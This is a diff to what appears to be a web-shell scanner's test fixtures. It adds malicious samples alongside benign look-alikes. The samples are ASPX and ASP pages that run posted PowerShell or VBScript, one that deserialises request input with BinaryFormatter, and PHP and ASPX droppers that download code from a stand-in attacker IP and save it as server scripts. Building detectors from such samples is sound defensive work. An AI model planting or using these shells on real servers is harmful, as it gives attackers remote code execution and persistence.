@@ -380,6 +380,37 @@ SHELLS: dict[str, tuple[str, bytes, str]] = {
         b'End Sub\nWalk Server.MapPath("/") %>',
         "a mass defacer",
     ),
+    "aspx_powershell": (
+        "ps.aspx",
+        b'<%@ Page Language="C#" %><% var ps = System.Management.Automation.PowerShell.Create();\n'
+        b'ps.AddScript(Request.Form["c"]); foreach (var o in ps.Invoke()) Response.Write(o); %>',
+        "PowerShell run inside the page's process",
+    ),
+    "aspx_binary_formatter": (
+        "bf.aspx",
+        b'<%@ Page Language="C#" %><% var f = new System.Runtime.Serialization.Formatters'
+        b".Binary.BinaryFormatter();\nf.Deserialize(Request.InputStream); %>",
+        "Deserialize with a .NET formatter",
+    ),
+    "asp_script_control": (
+        "sc.asp",
+        b'<% Set s = Server.CreateObject("MSScriptControl.ScriptControl")\n'
+        b's.Language = "VBScript"\ns.AddCode Request("code")\ns.Run "Main" %>',
+        "MSScriptControl runs script code",
+    ),
+    "php_download_and_plant": (
+        "up.php",
+        b"<?php $c = curl_init('http://198.51.100.4/x.txt');\n"
+        b"curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);\n"
+        b"file_put_contents('wp-info.php', curl_exec($c)); ?>",
+        "downloads code from a URL and saves it as a server script",
+    ),
+    "aspx_download_and_plant": (
+        "dl.aspx",
+        b'<%@ Page Language="C#" %><% new System.Net.WebClient().DownloadFile(\n'
+        b'  "http://198.51.100.4/a.txt", Server.MapPath("~/help.aspx")); %>',
+        "downloads code from a URL and saves it as a server script",
+    ),
 }
 
 BENIGN: dict[str, tuple[str, bytes]] = {
@@ -482,6 +513,17 @@ BENIGN: dict[str, tuple[str, bytes]] = {
         b"  $ok = @fsockopen('127.0.0.1', $port, $en, $es, 1);\n"
         b"  echo $port, $ok ? ' up' : ' down'; }\n"
         b"echo htmlspecialchars($_GET['probe'] ?? ''); ?>",
+    ),
+    "aspx_json_deserialize": (
+        "order.aspx",
+        b'<%@ Page Language="C#" %><% var o = new System.Web.Script.Serialization'
+        b'.JavaScriptSerializer().Deserialize<Order>(Request.Form["o"]); %>',
+    ),
+    "php_cache_remote_json": (
+        "feed.php",
+        b"<?php $c = curl_init('https://api.example.org/feed.json');\n"
+        b"curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);\n"
+        b"file_put_contents(__DIR__ . '/cache/feed.json', curl_exec($c)); ?>",
     ),
     "aspx_upload_checked": (
         "up3.aspx",
